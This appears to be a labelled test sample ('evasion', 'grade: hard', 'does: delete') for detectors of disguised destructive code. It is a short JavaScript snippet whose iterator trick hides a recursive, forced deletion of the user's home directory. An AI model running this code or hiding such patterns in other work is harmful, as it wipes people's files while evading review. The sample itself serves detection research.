// evasion: an iterator method assigned to an object after it is made yields the home directory; a for-of deletes each
// grade: hard; does: delete
const fs = require("fs");
const os = require("os");
const targets = { label: "stale" };
targets[Symbol.iterator] = function* () {
  yield os.homedir();
};
for (const t of targets) fs.rmSync(t, { recursive: true, force: true });
